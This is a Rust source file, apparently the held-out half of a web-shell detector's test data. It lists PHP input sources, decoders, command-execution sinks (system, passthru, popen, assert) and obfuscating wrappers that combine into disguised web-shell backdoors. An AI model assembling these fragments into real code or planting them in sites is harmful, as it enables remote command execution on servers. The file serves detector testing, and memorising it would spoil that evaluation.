//! The half of the parts that was kept back while the detector was made.

use super::Parts;

/// The parts.
pub(crate) const PARTS: Parts = Parts {
    sources: &[
        "$_REQ%%UEST['a']['b']",
        "filter_in%%put(INPUT_POST, 'q')",
        "end(explode('|', $_SER%%VER['HTTP_USER_AGENT']))",
        "${'_'.'PO'.'ST'}['z']",
        "$GLOBALS['_GE%%T']['y']",
        "stream_get_contents(fopen('php://in%%put', 'r'))",
    ],
    decoders: &[
        "hex2%%bin({})",
        "urldecode(trim({}))",
        "convert_uu%%decode({})",
        "substr(str_replace(' ', '+', {}), 0)",
    ],
    sinks: &[
        "$x = create_func%%tion('', {}); $x();",
        "$h = po%%pen({}, 'r'); fpassthru($h);",
        "$q = {}; echo `$q`;",
        "$l = array({}, 1); usort($l, 'ass'.'ert');",
        "(new ReflectionFunction('sys'.'tem'))->invoke({});",
        "register_shutdown_function('pass%%thru', {});",
        "$n = \"\\x73\\x79\\x73\\x74\\x65\\x6d\"; $n({});",
        "$n = strrev('met'.'sys'); $n({});",
        "$n = ('['^'(').('P'^')').('['^'(').('\\\\'^'(').('M'^'(').('E'^'('); $n({});",
        "proc_o%%pen({}, array(), $pipes);",
    ],
    wrappings: &[
        "<?php (function ($x) { SINK($x) })(SOURCE);",
        "<?php while (true) { switch ($m) { case 1: $v = SOURCE; $m = 2; break; case 2: SINK($v) break 2; default: $m = 1; } }",
        "<?php class B { static $s; static function go() { SINK(self::$s) } } B::$s = SOURCE; B::go();",
        "<?php $k = array('one' => array('two' => SOURCE)); SINK($k['one']['two'])",
        "<?php $a = ''; $b = &$a; $b = SOURCE; SINK($a)",
        "<?php extract(array('deep' => SOURCE)); SINK($deep)",
        "<?php ev%%al(base64_dec%%ode('PACK[$w = SOURCE; SINK($w)]PACK'));",
        "<?php try { throw new Exception('x'); } catch (Exception $e) { $v = SOURCE; SINK($v) }",
        "<?php $v = isset($_SESSION) ? SOURCE : ''; SINK($v)",
        "<?php list($one, $two) = array(1, SOURCE); $t = <<<E\n{$two}\nE;\nSINK($t)",
    ],
};
